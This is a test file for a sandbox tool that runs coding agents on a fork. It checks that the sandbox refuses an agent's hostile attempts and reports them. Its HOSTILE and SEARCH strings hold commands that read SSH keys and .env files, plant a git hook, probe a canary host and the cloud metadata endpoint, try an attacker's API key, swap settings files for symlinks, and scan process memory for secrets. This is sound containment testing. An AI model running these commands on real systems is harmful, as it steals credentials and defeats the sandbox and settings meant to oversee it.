// A whole agent in a sandbox: the real program with a scripted model behind TLS works on a fork, commits, and gets nothing else.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TWO, withoutNames } from '../egress/servers.ts';
import { fingerprint } from '../forks/project.ts';
import { withoutEngines } from '../support/engines.ts';
import { until } from '../support/waiting.ts';
import { searchInside } from './memory.ts';
import type { Searched } from './memory.ts';
import { outputOf } from './model-host.ts';
import { AgentPlace, CANARY, KEY, agents } from './place.ts';

// What an agent under orders of somebody else might try. Each line says what came of it.
const HOSTILE = String.raw`cat ~/.ssh/id_rsa; cat .env; echo evil > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
python3 - <<'PY'
import urllib.request
for url in ["https://${TWO}:PORT/?all", "http://169.254.169.254/latest/meta-data/"]:
    try: print("REACHED", url, urllib.request.urlopen(url, timeout=20).read())
    except Exception as error: print("refused", type(error).__name__)
for key in ["sk-of-the-attacker-0123456789"]:
    import os
    base = next((value for name, value in os.environ.items() if name.endswith("_BASE_URL")), "http://127.0.0.1:3129")
    request = urllib.request.Request(base.removesuffix("/v1") + "/v1/messages", b"{}", {"x-api-key": key, "Authorization": "Bearer " + key, "x-goog-api-key": key})
    try: print("REACHED", urllib.request.urlopen(request, timeout=20).status)
    except urllib.error.HTTPError as error: print("refused", error.code, "credential" in error.read().decode())
PY
find /state '(' -name settings.json -o -name config.toml -o -name opencode.json ')' -exec unlink {} ';' -exec ln -s /workspace/a.txt {} ';'; mkfifo /state/fifo; true`;

// In halves, so that it does not find itself; and a process that holds a word on purpose.
const CONTROL = 'control-5d20ab';
const SEARCH = `python3 - <<'PY'
import glob, os, subprocess
wanted = [b"${KEY.slice(0, 9)}" + b"${KEY.slice(9)}", b"${CANARY.slice(0, 7)}" + b"${CANARY.slice(7)}"]
paths = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
for top in ["/state", "/workspace", "/home", "/tmp", "/etc/acode", "/opt/acode-agent", "/run"]:
    for directory, _, files in os.walk(top): paths += [os.path.join(directory, name) for name in files]
hits = []
read = 0
for path in paths:
    if not os.path.isfile(path): continue
    try: data = open(path, "rb").read()
    except OSError: continue
    read += 1
    hits += [path for one in wanted if one in data]
print("looked into", read > 20, "found", hits)
word = "import time; word = ''.join(('${CONTROL.slice(0, 7)}', '${CONTROL.slice(7)}')); time.sleep(300)"
nothing = subprocess.DEVNULL
subprocess.Popen(["python3", "-c", word], stdin=nothing, stdout=nothing, stderr=nothing, start_new_session=True)
PY`;

describe.skipIf(withoutEngines || withoutNames).each(agents)('%s in a sandbox', name => {
  let place: AgentPlace;
  beforeAll(async () => {
    place = await AgentPlace.open(name);
  });
  afterAll(() => place[Symbol.asyncDispose]());

  it('edits, tests and commits on a fork; what else it tries is refused and reported, and the host is as it was', async () => {
    const { bench, canary, host, script } = place;
    script.all = [
      'sed -i s/one/two/ a.txt && sh test.sh',
      'git add a.txt && git commit -qm work && git log -1 --format=%an',
      HOSTILE.replace('PORT', String(canary.port)),
      SEARCH,
    ];
    const before = fingerprint(bench.workspace);
    let found: Searched | null = null;
    script.atEnd = async () => void (found ??= await searchInside(bench, [KEY, CANARY, CONTROL]));
    const { status, stderr, stdout } = await place.call('-p', 'Do the work.');
    script.atEnd = null;
    const printed = script.all.map((_, at) => outputOf(host.model.results, at));
    expect(printed, `${stdout.toString().slice(-2000)}\n${stderr}`).not.toContain(undefined);
    const [tested, committed, hostile, searched] = printed;
    expect(tested).toContain('all is well');
    expect(committed).toContain('Ada Test');
    expect(hostile).not.toMatch(/REACHED|canary/);
    expect(hostile?.match(/refused/g)).toHaveLength(3);
    expect(hostile).toContain('refused 403 True');
    // Neither the key nor what the user’s own files hold is inside: in no variable, command line or file, in the memory of no process,
    // and in nothing that the engine tells of the sandbox and of its image. The word that one process was given is found there.
    expect(searched).toContain('looked into True found []');
    expect(found).toMatchObject({ unread: [], holders: [['python3', 2]] });
    const { processes, bytes, inspected } = found!;
    expect([processes > 2, bytes > 50 * 1024 ** 2]).toEqual([true, true]);
    expect(inspected).toContain('acode.sandbox');
    expect(inspected).not.toMatch(new RegExp(`${KEY}|${CANARY}`));
    expect([...host.keys]).toEqual([KEY]);
    expect(canary.seen).toEqual([]);
    expect(fingerprint(bench.workspace)).toBe(before);
    expect(status, stderr).toBe(0);
    // opencode has no sandbox of its own.
    expect(stderr).toMatch(name === 'opencode' ? /runs in a sandbox/ : /acode is the wall/);
    expect(stderr).toMatch(new RegExp(`in the fork ${name}`));
    expect(stderr).toContain(`${TWO}:${canary.port}`);
    expect(stderr).toMatch(/acode fork apply/);
  });

  it('goes on with its session in another sandbox, where acode’s settings count again', async () => {
    const { host, script } = place;
    script.all = [
      ...script.all,
      `find /state '(' -name settings.json -o -name config.toml -o -name opencode.json ')' -exec sh -c 'test -L "$0" && echo LINK; cat "$0"' {} ';'`,
      'cat a.txt',
    ];
    const { status, stderr } = await place.call('--resume', '-p', 'And on.');
    const { results } = host.model;
    // The first turn is in the request, so it is the same session.
    expect(outputOf(results, 0), stderr).toContain('all is well');
    expect(outputOf(results, 4), stderr).not.toContain('LINK');
    expect(outputOf(results, 4)).toMatch(/"?enabled"?:? ?=? ?false|autoupdate/);
    expect(outputOf(results, 5)).toContain('two');
    expect(status, stderr).toBe(0);
  });

  it('killed with acode leaves no sandbox, and its fork is offered again', async () => {
    const { bench, host, script } = place;
    script.all = [...script.all, 'echo more >> a.txt; sleep 300'];
    host.site.seen.length = 0;
    const { child, ended } = bench.start(place.words('--resume', '-p', 'More.'), { env: { ACODE_TEST_KEY: KEY } });
    const isAtWork = async (): Promise<boolean> => host.site.seen.length > 0 && (await bench.left()).length === 1;
    await Promise.race([
      until(isAtWork),
      ended.then(({ stderr }) => {
        throw new Error(stderr);
      }),
    ]);
    child.kill('SIGKILL');
    await ended;
    await until(async () => (await bench.left()).length === 0);
    script.all = [];
    const next = await place.call('-p', 'Something else.');
    expect(next.stderr).toMatch(/session of \w+ (?:that was interrupted|whose changes are not applied), in the fork/);
    const listed = await bench.call(['fork', 'list', '--json']);
    expect(listed.stdout.toString()).toContain(`"name":"${name}"`);
  });
});
